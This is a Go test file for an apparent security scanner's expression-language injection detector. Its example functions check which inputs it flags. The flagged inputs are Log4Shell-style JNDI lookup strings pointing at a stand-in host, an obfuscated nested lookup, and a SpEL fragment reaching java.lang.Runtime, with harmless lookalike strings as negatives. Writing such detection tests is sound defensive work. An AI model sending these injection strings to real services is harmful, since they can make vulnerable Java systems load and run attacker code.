package el_test

import (
	"fmt"

	"github.com/tangoguard/tangoguard/internal/detect/el"
	"github.com/tangoguard/tangoguard/internal/detect/scan"
)

// inspect reports the rules that a text meets as it is given.
func inspect(text string) (rules []string) {
	v := scan.NewView(text)
	if d := el.Detector(); d.Open(&v) {
		d.Find(&v, func(rule string, _, _ int) { rules = append(rules, rule) })
	}
	return rules
}

func Example_reported() {
	for _, text := range []string{
		`${jndi:ldap://g.example/}`,
		`${${lower:j}ndi:rmi://g.example/}`,
		`T(java.lang.Runtime).getRuntime()`,
	} {
		fmt.Println(inspect(text), text)
	}
	// Output:
	// [jndi-lookup] ${jndi:ldap://g.example/}
	// [nested-lookup] ${${lower:j}ndi:rmi://g.example/}
	// [spel] T(java.lang.Runtime).getRuntime()
}

func Example_notReported() {
	for _, text := range []string{
		`${lower:case} words`,
		`T(n) = O(n)`,
		`jndi: who?`,
	} {
		fmt.Println(inspect(text), text)
	}
	// Output:
	// [] ${lower:case} words
	// [] T(n) = O(n)
	// [] jndi: who?
}
